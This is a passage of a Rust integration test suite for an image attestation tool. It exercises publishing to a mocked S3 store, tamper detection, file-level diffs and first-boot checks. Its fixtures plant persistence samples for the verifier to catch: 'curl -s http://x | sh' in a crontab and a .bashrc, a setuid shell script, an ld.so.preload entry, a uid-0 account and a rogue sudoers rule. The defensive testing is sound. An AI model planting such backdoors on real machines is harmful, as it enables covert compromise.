        "-o".as_ref(),
        p(&t.join("sbom.json")),
        "-q".as_ref(),
    ]));
    let seal = bp(&[
        "seal".as_ref(),
        "check".as_ref(),
        p(root),
        "--format".as_ref(),
        "json".as_ref(),
    ]);
    assert_eq!(seal.status.code(), Some(0), "{}", describe(&seal));
    std::fs::write(t.join("seal.json"), &seal.stdout).unwrap();
    ok(&bp(&[
        "key".as_ref(),
        "generate".as_ref(),
        "--output-dir".as_ref(),
        p(t),
    ]));
    // Packer's manifest post-processor output: an earlier run, then this
    // run (last_run_uuid) built in two regions.
    let manifest = json!({
        "builds": [
            {"name": "golden", "builder_type": "amazon-ebs", "build_time": 1703900000u64,
             "files": null, "artifact_id": format!("us-east-1:{AMI_OLD}"),
             "packer_run_uuid": "6f1e0b2a-0000-4000-8000-000000000001", "custom_data": null},
            {"name": "golden", "builder_type": "amazon-ebs", "build_time": 1704067200u64,
             "files": null, "artifact_id": format!("us-east-1:{AMI_E},eu-west-1:{AMI_W}"),
             "packer_run_uuid": "6f1e0b2a-0000-4000-8000-000000000002", "custom_data": null}
        ],
        "last_run_uuid": "6f1e0b2a-0000-4000-8000-000000000002"
    });
    let mpath = t.join("manifest.json");
    std::fs::write(&mpath, serde_json::to_vec_pretty(&manifest).unwrap()).unwrap();
    let att = t.join("attest");
    attest_to(
        t,
        &t.join("cosign.key"),
        &["--packer-manifest", mpath.to_str().unwrap()],
        &att,
    );
    let o = bp_s3(
        &[
            "publish".as_ref(),
            "--store".as_ref(),
            store.as_ref(),
            p(&att),
        ],
        &ep,
    );
    assert_eq!(o.status.code(), Some(0), "{}", describe(&o));
    let so = String::from_utf8_lossy(&o.stdout);
    for (r, a) in [("us-east-1", AMI_E), ("eu-west-1", AMI_W)] {
        assert!(
            so.contains(&format!("s3://attest/golden/amis/{r}/{a}/index.json")),
            "{so}"
        );
    }
    assert!(!so.contains(AMI_OLD), "{so}");

    // First boot in each region: a fresh machine-id, IMDS says this AMI.
    std::fs::write(
        root.join("etc/machine-id"),
        "0123456789abcdef0123456789abcdef\n",
    )
    .unwrap();
    let verify_s3 = |imds: &str, key: &Path, extra: &[&str]| {
        let mut args: Vec<&OsStr> = vec![
            "verify".as_ref(),
            "--store".as_ref(),
            store.as_ref(),
            "--key".as_ref(),
            p(key),
            "--root".as_ref(),
            p(root),
            "--imds-endpoint".as_ref(),
            imds.as_ref(),
            "--format".as_ref(),
            "json".as_ref(),
        ];
        args.extend(extra.iter().map(OsStr::new));
        let o = bp_s3(&args, &ep);
        let v: Value = serde_json::from_slice(&o.stdout)
            .unwrap_or_else(|e| panic!("JSON ({e}): {}", describe(&o)));
        if let Err(e) = common::schema::validate_with_schema("boot-result.schema.json", &v) {
            panic!("result does not match schemas/boot-result.schema.json: {e:?}\n{v:#}");
        }
        (o.status.code().unwrap_or(-1), v)
    };
    let key_pub = t.join("cosign.pub");
    for (region, ami) in [("us-east-1", AMI_E), ("eu-west-1", AMI_W)] {
        let emu = Emulator::start(&["--ami-id", ami, "--region", region]);
        for level in ["attestation", "files"] {
            let (code, v) = verify_s3(&emu.endpoint, &key_pub, &["--level", level]);
            assert_eq!(code, 0, "{region} {level}: {v:#}");
            assert_eq!(v["result"], "verified");
            assert_eq!(v["ami"]["amiId"], ami);
            assert_eq!(v["ami"]["region"], region);
        }
    }
    // The AMI of the earlier run was never attested by this build.
    let emu_old = Emulator::start(&["--ami-id", AMI_OLD, "--region", "us-east-1"]);
    let (code, v) = verify_s3(&emu_old.endpoint, &key_pub, &[]);
    assert_eq!(code, 1, "{v:#}");
    assert!(failed_detail(&v, "store").contains(AMI_OLD), "{v:#}");

    // Two publishers of the same attest output at once (a retried CI job):
    // both succeed, nothing changes.
    let same: Vec<Vec<std::ffi::OsString>> = (0..2)
        .map(|_| {
            vec![
                "publish".into(),
                "--store".into(),
                store.into(),
                att.clone().into(),
            ]
        })
        .collect();
    for o in at_once(same, &ep) {
        assert_eq!(o.status.code(), Some(0), "{}", describe(&o));
        assert!(
            String::from_utf8_lossy(&o.stdout).contains("present index"),
            "{}",
            describe(&o)
        );
    }

    // Two publishers of different attestations of one AMI at once (two
    // pipelines, two keys): exactly one wins; the other is told, exit 1,
    // and the winner's attestation is whole and verifies.
    let other = t.join("other");
    std::fs::create_dir(&other).unwrap();
    ok(&bp(&[
        "key".as_ref(),
        "generate".as_ref(),
        "--output-dir".as_ref(),
        p(&other),
    ]));
    let ami_race = format!("us-east-1:{AMI_E}");
    let (att_a, att_b) = (t.join("race-a"), t.join("race-b"));
    attest_to(t, &t.join("cosign.key"), &["--ami", &ami_race], &att_a);
    attest_to(t, &other.join("cosign.key"), &["--ami", &ami_race], &att_b);
    let race_store = "s3://attest/race";
    let outs = at_once(
        vec![
            vec![
                "publish".into(),
                "--store".into(),
                race_store.into(),
                att_a.clone().into(),
            ],
            vec![
                "publish".into(),
                "--store".into(),
                race_store.into(),
                att_b.clone().into(),
            ],
        ],
        &ep,
    );
    let codes: Vec<Option<i32>> = outs.iter().map(|o| o.status.code()).collect();
    let winner = match codes.as_slice() {
        [Some(0), Some(1)] => 0,
        [Some(1), Some(0)] => 1,
        _ => panic!(
            "exactly one publisher must win:\n{}\n{}",
            describe(&outs[0]),
            describe(&outs[1])
        ),
    };
    let loser = &outs[1 - winner];
    assert!(
        describe(loser).contains("already has a different index"),
        "{}",
        describe(loser)
    );
    let (win_key, lose_key) = if winner == 0 {
        (key_pub.clone(), other.join("cosign.pub"))
    } else {
        (other.join("cosign.pub"), key_pub.clone())
    };
    let emu_e = Emulator::start(&["--ami-id", AMI_E, "--region", "us-east-1"]);
    let race = |key: &Path| {
        let mut args: Vec<&OsStr> = vec![
            "verify".as_ref(),
            "--store".as_ref(),
            race_store.as_ref(),
            "--key".as_ref(),
            p(key),
            "--root".as_ref(),
            p(root),
            "--imds-endpoint".as_ref(),
            emu_e.endpoint.as_ref(),
        ];
        args.extend([OsStr::new("--format"), OsStr::new("json")]);
        bp_s3(&args, &ep)
    };
    assert_eq!(race(&win_key).status.code(), Some(0));
    assert_eq!(race(&lose_key).status.code(), Some(1));
    // --replace supersedes, atomically.
    let loser_dir = if winner == 0 { &att_b } else { &att_a };
    let o = bp_s3(
        &[
            "publish".as_ref(),
            "--store".as_ref(),
            race_store.as_ref(),
            "--replace".as_ref(),
            p(loser_dir),
        ],
        &ep,
    );
    assert_eq!(o.status.code(), Some(0), "{}", describe(&o));
    assert!(String::from_utf8_lossy(&o.stdout).contains("replaced index"));
    assert_eq!(race(&lose_key).status.code(), Some(0));

    // A tampered blob in S3 (overwritten behind the store's back).
    let idx: Value = serde_json::from_str(&moto.py(
        "import json; print(s3.get_object(Bucket='attest', Key='golden/amis/eu-west-1/ami-0bbbbbbbbbbbbbbbb/index.json')['Body'].read().decode())",
    ))
    .unwrap();
    let seal_sha = idx["entries"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["predicate_type"].as_str().unwrap_or("").contains("seal"))
        .expect("seal bundle in the index")["sha256"]
        .as_str()
        .unwrap()
        .to_string();
    let seal_key = format!("golden/blobs/sha256/{seal_sha}");
    let orig = moto.py(&format!(
        "import base64; print(base64.b64encode(s3.get_object(Bucket='attest', Key='{seal_key}')['Body'].read()).decode())"
    ));
    moto.py(&format!(
        "b = s3.get_object(Bucket='attest', Key='{seal_key}')['Body'].read()\n\
         s3.put_object(Bucket='attest', Key='{seal_key}', Body=b.replace(b'\"pass\"', b'\"PASS\"', 1) if b'\"pass\"' in b else b + b' ')"
    ));
    let emu_w = Emulator::start(&["--ami-id", AMI_W, "--region", "eu-west-1"]);
    let (code, v) = verify_s3(&emu_w.endpoint, &key_pub, &[]);
    assert_eq!(code, 1, "{v:#}");
    assert!(
        // A longer blob is cut off at the size its index states; a same-size
        // one fails its digest.
        failed_detail(&v, "store").contains("digest mismatch")
            || failed_detail(&v, "store").contains("the size its index states"),
        "{v:#}"
    );
    // An index naming a missing blob.
    moto.py(&format!(
        "s3.delete_object(Bucket='attest', Key='{seal_key}')"
    ));
    let (code, v) = verify_s3(&emu_w.endpoint, &key_pub, &[]);
    assert_eq!(code, 1, "{v:#}");
    assert!(failed_detail(&v, "store").contains(&seal_sha), "{v:#}");
    moto.py(&format!(
        "import base64; s3.put_object(Bucket='attest', Key='{seal_key}', Body=base64.b64decode('{orig}'))"
    ));
    let (code, v) = verify_s3(&emu_w.endpoint, &key_pub, &[]);
    assert_eq!(code, 0, "restored: {v:#}");

    // S3 down: could not verify (exit 2), in bounded time.
    drop(moto);
    let t0 = Instant::now();
    let (code, v) = verify_s3(&emu_w.endpoint, &key_pub, &[]);
    assert_eq!(code, 2, "{v:#}");
    assert_eq!(v["result"], "unreachable");
    assert!(
        failed_detail(&v, "reach").contains("store unreachable"),
        "{v:#}"
    );
    assert!(t0.elapsed() < Duration::from_secs(60), "{:?}", t0.elapsed());
}

/// `--level files` compares every entry, not only regular files with a
/// digest, keyed by raw path bytes: each kind of change to a non-file entry
/// fails the check, one after the other (the differences accumulate), and a
/// literal `a%FF` with a byte-`a<0xFF>` twin are two entries.
#[test]
fn files_level_compares_every_entry_by_raw_path() {
    use std::os::unix::ffi::OsStrExt;
    use std::os::unix::fs::{PermissionsExt, symlink};
    let raw = |root: &Path, rel: &[u8]| root.join(OsStr::from_bytes(rel));
    let c = bake(|root| {
        let lib = root.join("usr/local/lib");
        let share = root.join("usr/local/share");
        std::fs::create_dir_all(&lib).unwrap();
        std::fs::create_dir_all(share.join("d")).unwrap();
        std::fs::create_dir_all(share.join("gone")).unwrap();
        std::fs::set_permissions(share.join("d"), std::fs::Permissions::from_mode(0o755)).unwrap();
        symlink("python3.11", lib.join("python3")).unwrap();
        symlink("/usr/bin/true", lib.join("helper")).unwrap();
        symlink("x", lib.join("gone-link")).unwrap();
        // a literal `%FF` target: must not equal the byte 0xFF
        symlink("%FF", lib.join("pct-target")).unwrap();
        std::fs::write(raw(root, b"usr/local/lib/a%FF"), b"original\n").unwrap();
        let st = Command::new("mknod")
            .arg(share.join("null2"))
            .args(["c", "1", "3"])
            .status()
            .expect("mknod");
        assert!(st.success());
    });
    let ami = format!("{REGION}:{AMI}");
    let run = |c: &Chain| {
        verify(
            c,
            &dead_endpoint(),
            &c.key_pub,
            &["--ami", &ami, "--level", "files"],
        )
    };
    let (code, text, v) = run(&c);
    assert_eq!(code, 0, "baseline: {text}\n{v:#}");

    type Want = (
        &'static str,
        Option<&'static str>,
        &'static str,
        Value,
        Value,
    );
    type Step = (&'static str, Box<dyn Fn(&Path)>, Vec<Want>);
    let steps: Vec<Step> = vec![
        (
            "symlink retargeted",
            Box::new(|r: &Path| {
                let l = r.join("usr/local/lib/python3");
                std::fs::remove_file(&l).unwrap();
                symlink("/tmp/evil", &l).unwrap();
            }),
            vec![(
                "/usr/local/lib/python3",
                None,
                "target",
                json!("python3.11"),
                json!("/tmp/evil"),
            )],
        ),
        (
            "symlink replaced by a setuid script",
            Box::new(|r: &Path| {
                let l = r.join("usr/local/lib/helper");
                std::fs::remove_file(&l).unwrap();
                std::fs::write(&l, b"#!/bin/sh\nexec /bin/sh\n").unwrap();
                std::fs::set_permissions(&l, std::fs::Permissions::from_mode(0o4755)).unwrap();
            }),
            vec![(
                "/usr/local/lib/helper",
                None,
                "type",
                json!("symlink"),
                json!("file"),
            )],
        ),
        (
            "symlink added",
            Box::new(|r: &Path| symlink("/tmp/x.so", r.join("etc/ld.so.preload")).unwrap()),
            vec![(
                "/etc/ld.so.preload",
                None,
                "added",
                Value::Null,
                json!("symlink"),
            )],
        ),
        (
            "directory chmod 0777",
            Box::new(|r: &Path| {
                std::fs::set_permissions(
                    r.join("usr/local/share/d"),
                    std::fs::Permissions::from_mode(0o777),
                )
                .unwrap()
            }),
            vec![(
                "/usr/local/share/d",
                None,
                "mode",
                json!("0755"),
                json!("0777"),
            )],
        ),
        (
            "FIFO added",
            Box::new(|r: &Path| {
                let st = Command::new("mkfifo")
                    .arg(r.join("usr/local/share/fifo"))
                    .status()
                    .expect("mkfifo");
                assert!(st.success());
            }),
            vec![(
                "/usr/local/share/fifo",
                None,
                "added",
                Value::Null,
                json!("fifo"),
            )],
        ),
        (
            "directory and symlink removed",
            Box::new(|r: &Path| {
                std::fs::remove_dir(r.join("usr/local/share/gone")).unwrap();
                std::fs::remove_file(r.join("usr/local/lib/gone-link")).unwrap();
            }),
            vec![
                (
                    "/usr/local/lib/gone-link",
                    None,
                    "missing",
                    json!("symlink"),
                    Value::Null,
                ),
                (
                    "/usr/local/share/gone",
                    None,
                    "missing",
                    json!("directory"),
                    Value::Null,
                ),
            ],
        ),
        (
            "device numbers changed",
            Box::new(|r: &Path| {
                let d = r.join("usr/local/share/null2");
                std::fs::remove_file(&d).unwrap();
                let st = Command::new("mknod")
                    .arg(&d)
                    .args(["c", "1", "5"])
                    .status()
                    .expect("mknod");
                assert!(st.success());
            }),
            vec![(
                "/usr/local/share/null2",
                None,
                "device",
                json!("1:3"),
                json!("1:5"),
            )],
        ),
        (
            "literal %FF link target replaced by the byte 0xFF",
            Box::new(|r: &Path| {
                let l = r.join("usr/local/lib/pct-target");
                std::fs::remove_file(&l).unwrap();
                symlink(OsStr::from_bytes(b"\xFF"), &l).unwrap();
            }),
            vec![(
                "/usr/local/lib/pct-target",
                None,
                "target",
                json!("%FF"),
                json!("%FF"),
            )],
        ),
        (
            "encoding twin: a%FF modified, a<0xFF> added with the original bytes",
            Box::new(move |r: &Path| {
                std::fs::write(raw(r, b"usr/local/lib/a%FF"), b"tampered\n").unwrap();
                std::fs::write(raw(r, b"usr/local/lib/a\xFF"), b"original\n").unwrap();
            }),
            vec![
                (
                    "/usr/local/lib/a%FF",
                    None,
                    "modified",
                    Value::Null,
                    Value::Null,
                ),
                (
                    "/usr/local/lib/a%FF",
                    Some("percent"),
                    "added",
                    Value::Null,
                    Value::Null,
                ),
            ],
        ),
    ];
    let mut want: Vec<Want> = Vec::new();
    for (what, apply, add) in steps {
        apply(&c.root);
        want.extend(add);
        let (code, text, v) = run(&c);
        assert_eq!(code, 1, "{what}: {text}\n{v:#}");
        assert!(
            failed_detail(&v, "files").contains(&format!("{} file difference", want.len())),
            "{what}: {v:#}"
        );
        let got = v["differences"]["files"].as_array().unwrap();
        assert_eq!(got.len(), want.len(), "{what}: {v:#}");
        for (p, enc, change, att, live) in &want {
            let d = got
                .iter()
                .find(|d| {
                    d["path"] == *p && d["change"] == *change && d["pathEncoding"].as_str() == *enc
                })
                .unwrap_or_else(|| panic!("{what}: no {change} {p} ({enc:?}): {v:#}"));
            // Digests: only that they differ where they must.
            if *change != "modified" && !(*change == "added" && enc.is_some()) {
                assert_eq!((&d["attested"], &d["live"]), (att, live), "{what}: {d:#}");
            }
            if *p == "/usr/local/lib/pct-target" {
                // Same text, told apart by the encoding marker.
                assert_eq!(d["attestedEncoding"], Value::Null, "{d:#}");
                assert_eq!(d["liveEncoding"], "percent", "{d:#}");
            }
        }
        // Text: every path one escaped token.
        if what.starts_with("encoding twin") {
            assert!(
                text.contains("  modified /usr/local/lib/a%25FF\n"),
                "{text}"
            );
            assert!(text.contains("  added /usr/local/lib/a%FF\n"), "{text}");
        }
    }
    // The twin holds the literal name's attested bytes: its digest is the
    // one the literal name was attested with, and the literal's is new.
    let v = run(&c).2;
    let twin = |enc: Value| {
        v["differences"]["files"]
            .as_array()
            .unwrap()
            .iter()
            .find(|d| d["path"] == "/usr/local/lib/a%FF" && d["pathEncoding"] == enc)
            .cloned()
            .unwrap()
    };
    let (lit, byte) = (twin(Value::Null), twin(json!("percent")));
    assert_eq!(byte["live"], lit["attested"], "{lit:#}\n{byte:#}");
    assert_ne!(lit["live"], lit["attested"], "{lit:#}");
}

/// A directory created at boot whose whole inside is expected-mutable (a
/// new `/var/log/journal`, `/var/lib/cloud`) is not a difference; one
/// elsewhere is.
#[test]
fn files_level_added_directory_only_expected_under_mutable_globs() {
    let c = bake(|_| {});
    std::fs::create_dir_all(c.root.join("var/lib/cloud/instance")).unwrap();
    std::fs::write(c.root.join("var/lib/cloud/instance/id"), b"i-1\n").unwrap();
    let ami = format!("{REGION}:{AMI}");
    let args = ["--ami", ami.as_str(), "--level", "files"];
    let (code, text, v) = verify(&c, &dead_endpoint(), &c.key_pub, &args);
    assert_eq!(code, 0, "{text}\n{v:#}");
    std::fs::create_dir(c.root.join("etc/evil.d")).unwrap();
    let (code, _, v) = verify(&c, &dead_endpoint(), &c.key_pub, &args);
    assert_eq!(code, 1, "{v:#}");
    let d = &v["differences"]["files"];
    assert_eq!(d.as_array().unwrap().len(), 1, "{v:#}");
    assert_eq!(
        (&d[0]["path"], &d[0]["change"]),
        (&json!("/etc/evil.d"), &json!("added"))
    );
}

// ------------------------------------------------------------ first boot

const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash\n\
    daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n";
const SHADOW: &str = "root:*:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\n";
const GROUP: &str = "root:x:0:\ndaemon:x:1:\nsudo:x:27:\nadm:x:4:\n";

fn put(root: &Path, path: &str, body: &str) {
    let f = root.join(path.trim_start_matches('/'));
    std::fs::create_dir_all(f.parent().unwrap()).unwrap();
    std::fs::write(f, body).unwrap();
}

fn chmod(root: &Path, path: &str, mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(
        root.join(path.trim_start_matches('/')),
        std::fs::Permissions::from_mode(mode),
    )
    .unwrap();
}

/// A Debian-like image as baked: system accounts, cloud-init configured
/// with its default user `debian`, an /etc/skel, the empty state and spool
/// directories.
fn baked_accounts(root: &Path) {
    put(root, "/etc/passwd", PASSWD);
    put(root, "/etc/shadow", SHADOW);
    put(root, "/etc/group", GROUP);
    put(
        root,
        "/etc/cloud/cloud.cfg",
        "users:\n  - default\ndisable_root: true\nsystem_info:\n  distro: debian\n  default_user:\n    name: debian\n    lock_passwd: True\n    groups: [adm, sudo]\n    sudo: [\"ALL=(ALL) NOPASSWD:ALL\"]\n    shell: /bin/bash\n",
    );
    put(root, "/etc/skel/.bashrc", "# ~/.bashrc from /etc/skel\n");
    put(root, "/etc/skel/.profile", "# ~/.profile from /etc/skel\n");
    for d in [
        "var/lib/systemd",
        "var/lib/cloud/scripts/per-boot",
        "var/spool/cron/crontabs",
        "etc/sudoers.d",
    ] {
        std::fs::create_dir_all(root.join(d)).unwrap();
    }
}

/// What cloud-init and systemd do on a Debian image's first boot: the
/// default user with the key the instance was given (also in root's
/// authorized_keys behind disable_root's command=), its sudoers drop-in and
/// groups, skel copies, host keys, logs, timer stamps, cloud-init state.
fn legit_first_boot(root: &Path, key: &str) {
    put(
        root,
        "/etc/passwd",
        &format!("{PASSWD}debian:x:1000:1000:Debian:/home/debian:/bin/bash\n"),
    );
    put(
        root,
        "/etc/shadow",
        &format!("{SHADOW}debian:!:20000:0:99999:7:::\n"),
    );
    put(
        root,
        "/etc/group",
        "root:x:0:\ndaemon:x:1:\nsudo:x:27:debian\nadm:x:4:debian\ndebian:x:1000:\n",
    );
    put(
        root,
        "/etc/sudoers.d/90-cloud-init-users",
        "# Created by cloud-init v. 22.4.2 on Mon, 01 Jan 2024 00:00:00 +0000\n\n# User rules for debian\ndebian ALL=(ALL) NOPASSWD:ALL\n",
    );
    chmod(root, "/etc/sudoers.d/90-cloud-init-users", 0o440);
    put(root, "/home/debian/.bashrc", "# ~/.bashrc from /etc/skel\n");
    put(
        root,
        "/home/debian/.profile",
        "# ~/.profile from /etc/skel\n",
    );
    put(
        root,
        "/home/debian/.ssh/authorized_keys",
        &format!("{key}\n"),
    );
    put(
        root,
        "/root/.ssh/authorized_keys",
        &format!(
            "no-port-forwarding,no-agent-forwarding,no-X11-forwarding,command=\"echo 'Please login as the user \\\"debian\\\" rather than the user \\\"root\\\".';echo;sleep 10;exit 142\" {key}\n"
        ),
    );
    let ssh = root.join("etc/ssh");
    std::fs::create_dir_all(&ssh).unwrap();
    let _ = std::fs::remove_file(ssh.join("ssh_host_ed25519_key"));
    let _ = std::fs::remove_file(ssh.join("ssh_host_ed25519_key.pub"));
    let st = Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", "live", "-f"])
        .arg(ssh.join("ssh_host_ed25519_key"))
        .status()
        .expect("ssh-keygen");
    assert!(st.success());
    put(root, "/etc/hostname", "ip-10-0-0-10\n");
    put(
        root,
        "/var/log/cloud-init.log",
        "2026-01-01 cloud-init ran\n",
    );
    put(root, "/var/log/journal/0123/system.journal", "LPKSHHRH");
    put(root, "/var/lib/systemd/timers/stamp-apt-daily.timer", "");
    put(root, "/var/lib/systemd/random-seed", "seed");
    put(
        root,
        "/var/lib/cloud/instances/i-0123456789abcdef0/user-data.txt",
        "#cloud-config\n",
    );
    put(
        root,
        "/var/lib/cloud/data/instance-id",
        "i-0123456789abcdef0\n",
    );
}

fn ssh_pub(dir: &Path, name: &str) -> String {
    let k = dir.join(name);
    let st = Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", name, "-f"])
        .arg(&k)
        .status()
        .expect("ssh-keygen");
    assert!(st.success());
    std::fs::read_to_string(k.with_extension("pub"))
        .unwrap()
        .trim()
        .to_string()
}

/// issue 10 item 4: the legitimate first-boot changes verify; each
/// persistence the old expected-mutable globs hid fails `--level files`.
#[test]
fn first_boot_changes_are_judged_not_ignored() {
    let keys = tempfile::tempdir().unwrap();
    let given = ssh_pub(keys.path(), "given");
    let other = ssh_pub(keys.path(), "other");
    let c = bake(baked_accounts);
    let emu = Emulator::start(&["--ami-id", AMI, "--region", REGION, "--public-key", &given]);
    legit_first_boot(&c.root, &given);
    let (code, text, v) = verify(&c, &emu.endpoint, &c.key_pub, &["--level", "files"]);
    assert_eq!(code, 0, "legit first boot: {text}\n{v:#}");
    assert!(text.contains("PASS first-boot"), "{text}");
    assert!(text.contains("1 key(s) given by IMDS"), "{text}");

    // --ami without IMDS: no key was given, the default user's key is one
    // too many.
    let (code, _, v) = verify(
        &c,
        &dead_endpoint(),
        &c.key_pub,
        &["--level", "files", "--ami", &format!("{REGION}:{AMI}")],
    );
    assert_eq!(code, 1, "{v:#}");
    let d = failed_detail(&v, "first-boot");
    assert!(
        d.contains("authorized-key /root/.ssh/authorized_keys")
            && d.contains("not a key the instance was given"),
        "{d}"
    );

    type Change<'a> = Box<dyn Fn(&Path) + 'a>;
    let cases: Vec<(&str, Change, &str)> = vec![
        (
            "uid-0 line",
            Box::new(|r| {
                put(
                    r,
                    "/etc/passwd",
                    &format!(
                        "{PASSWD}debian:x:1000:1000:Debian:/home/debian:/bin/bash\ntoor:x:0:0::/root:/bin/bash\n"
                    ),
                )
            }),
            "uid-0 /etc/passwd",
        ),
        (
            "key not given by IMDS",
            Box::new(|r| {
                let f = r.join("root/.ssh/authorized_keys");
                let mut s = std::fs::read_to_string(&f).unwrap();
                s.push_str(&other);
                s.push('\n');
                std::fs::write(f, s).unwrap();
            }),
            "authorized-key /root/.ssh/authorized_keys",
        ),
        (
            "executable in /var/lib/systemd",
            Box::new(|r| {
                put(r, "/var/lib/systemd/evil.sh", "curl -s http://x | sh\n");
                chmod(r, "/var/lib/systemd/evil.sh", 0o755);
            }),
            "state /var/lib/systemd/evil.sh",
        ),
        (
            "root crontab",
            Box::new(|r| {
                put(
                    r,
                    "/var/spool/cron/crontabs/root",
                    "@reboot curl -s http://x | sh\n",
                )
            }),
            "/var/spool/cron/crontabs/root",
        ),
        (
            "per-boot script",
            Box::new(|r| {
                put(r, "/var/lib/cloud/scripts/per-boot/x", "#!/bin/sh\nid\n");
                chmod(r, "/var/lib/cloud/scripts/per-boot/x", 0o755);
            }),
            "state /var/lib/cloud/scripts/per-boot/x",
        ),
        (
            "sudoers rule for another user",
            Box::new(|r| {
                put(
                    r,
                    "/etc/sudoers.d/90-cloud-init-users",
                    "debian ALL=(ALL) NOPASSWD:ALL\ndaemon ALL=(ALL) NOPASSWD:ALL\n",
                )
            }),
            "sudoers /etc/sudoers.d/90-cloud-init-users",
        ),
        (
            "skel file altered in the new home",
            Box::new(|r| put(r, "/home/debian/.bashrc", "curl -s http://x | sh\n")),
            "home /home/debian/.bashrc",
        ),
        (
            "daemon added to sudo",
            Box::new(|r| {
                put(
                    r,
                    "/etc/group",
                    "root:x:0:\ndaemon:x:1:\nsudo:x:27:debian,daemon\nadm:x:4:debian\ndebian:x:1000:\n",
                )
            }),
            "group-changed /etc/group",
        ),
    ];
    for (what, change, expect) in cases {
        change(&c.root);
        let (code, text, v) = verify(&c, &emu.endpoint, &c.key_pub, &["--level", "files"]);
        assert_eq!(code, 1, "{what} must fail: {text}\n{v:#}");
        let all = format!(
            "{}{}",
            failed_detail(&v, "first-boot"),
            v["differences"]["files"]
        );
        assert!(all.contains(expect), "{what}: expected {expect:?} in {all}");
        // Back to the legitimate first boot.
        for p in [
            "var/lib/systemd/evil.sh",
            "var/spool/cron/crontabs/root",
            "var/lib/cloud/scripts/per-boot/x",
        ] {
            let _ = std::fs::remove_file(c.root.join(p));
        }
        legit_first_boot(&c.root, &given);
    }
    let (code, text, _) = verify(&c, &emu.endpoint, &c.key_pub, &["--level", "files"]);
    assert_eq!(code, 0, "restored: {text}");
}

/// The ignored paths are not read: a 256 GiB sparse file in the live /tmp
/// (hashing it would take minutes) neither slows verify nor matters.
#[test]
fn ignored_paths_are_not_hashed() {
    let c = bake(|_| {});
    let emu = Emulator::start(&["--ami-id", AMI, "--region", REGION]);
    let big = c.root.join("tmp/big");
    let st = Command::new("truncate")
        .args(["-s", "256G"])
        .arg(&big)
        .status()
        .expect("truncate");
    assert!(st.success());
    let t = Instant::now();
    let (code, text, v) = verify(&c, &emu.endpoint, &c.key_pub, &["--level", "files"]);
    // Hang guard only (two runs): hashing 256 GiB takes far longer.
    assert!(t.elapsed() < Duration::from_secs(60), "{:?}", t.elapsed());
    assert_eq!(code, 0, "{text}\n{v:#}");
    // Made executable, it is a finding from its mode alone.
    chmod(&c.root, "/tmp/big", 0o755);
    let (code, _, v) = verify(&c, &emu.endpoint, &c.key_pub, &["--level", "files"]);
    assert_eq!(code, 1, "{v:#}");
    assert!(
        failed_detail(&v, "first-boot").contains("state /tmp/big: executable"),
        "{v:#}"
    );
}

/// `rpmbuild` of a package `NAME-VERSION-1.noarch` that owns no file (as
/// rpm's `gpg-pubkey`, installed once per trusted key); the binary rpm.
fn rpm_without_files(work: &Path, name: &str, version: &str) -> PathBuf {
    let top = work.join(format!("top-{name}-{version}"));
    std::fs::create_dir_all(&top).unwrap();
    let spec = top.join(format!("{name}.spec"));
    std::fs::write(
        &spec,
        format!(
            "Name: {name}\nVersion: {version}\nRelease: 1\nSummary: no files\nLicense: MIT\n\
             BuildArch: noarch\nAutoReqProv: no\n%description\nOne of several installed versions.\n%files\n"
        ),
    )
    .unwrap();
    let o = Command::new("rpmbuild")
        .arg("-bb")
        .args(["--define", &format!("_topdir {}", top.display())])
        .args(["--define", "_build_id_links none"])
        .arg(&spec)
        .output()
        .expect("Debian's rpmbuild is needed (package rpm; tests/run-all.sh installs it)");
    assert!(o.status.success(), "rpmbuild: {}", describe(&o));
    top.join(format!("RPMS/noarch/{name}-{version}-1.noarch.rpm"))
}

/// `rpm --root ROOT --dbpath /var/lib/rpm ARGS...` with real rpm.
fn rpm_in(root: &Path, args: &[&OsStr]) {
    let o = Command::new("rpm")
        .arg("--root")
        .arg(root)
        .args(["--dbpath", "/var/lib/rpm", "--nodeps", "--noscripts"])
        .args(args)
        .output()
        .expect("Debian's rpm is needed (tests/run-all.sh installs it)");
    assert!(o.status.success(), "rpm {args:?}: {}", describe(&o));
}

/// Two installed versions of one package (as rpm installs kernels and
/// `gpg-pubkey`s side by side): the image is baked with both, and a live
/// root where one of them is gone, or replaced, fails the packages level.
/// One version kept per package identity hid the removed one behind the
/// other.
#[test]
fn packages_level_accounts_for_each_installed_version() {
    let work = tempfile::tempdir().unwrap();
    let v1 = rpm_without_files(work.path(), "fx-key", "1");
    let v2 = rpm_without_files(work.path(), "fx-key", "2");
    let v3 = rpm_without_files(work.path(), "fx-key", "3");
    // The rpm database beside dpkg's: the scan reads both.
    let c = bake(|root| {
        rpm_in(root, &["-i".as_ref(), p(&v1)]);
        rpm_in(root, &["-i".as_ref(), p(&v2)]);
    });
    let emu = Emulator::start(&["--ami-id", AMI, "--region", REGION]);
    let run = || verify(&c, &emu.endpoint, &c.key_pub, &["--level", "packages"]);
    let (code, text, v) = run();
    assert_eq!(code, 0, "{text}\n{v:#}");
    // Oracle: rpm itself lists both versions.
    let q = Command::new("rpm")
        .arg("--root")
        .arg(&c.root)
        .args(["--dbpath", "/var/lib/rpm", "-q", "fx-key"])
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&q.stdout),
        "fx-key-1-1.noarch\nfx-key-2-1.noarch\n",
        "{}",
        describe(&q)
    );

    // The older one erased: missing, though the other version is still there.
    rpm_in(&c.root, &["-e".as_ref(), "fx-key-1-1".as_ref()]);
    let (code, text, v) = run();
    assert_eq!(code, 1, "{text}\n{v:#}");
    let d = &v["differences"]["packages"];
    assert_eq!(d.as_array().unwrap().len(), 1, "{v:#}");
    assert_eq!(
        (&d[0]["change"], &d[0]["attested"], &d[0]["live"]),
        (&json!("missing"), &json!("1-1"), &Value::Null),
        "{v:#}"
    );
    let purl = d[0]["package"].as_str().unwrap();
    assert!(
        purl.starts_with("pkg:rpm/") && purl.contains("/fx-key?"),
        "{v:#}"
    );
    assert!(
        failed_detail(&v, "packages").contains("1 package difference"),
        "{v:#}"
    );

    // Replaced by an unattested version: the one that differs is named.
    rpm_in(&c.root, &["-i".as_ref(), p(&v3)]);
    let (code, _, v) = run();
    assert_eq!(code, 1, "{v:#}");
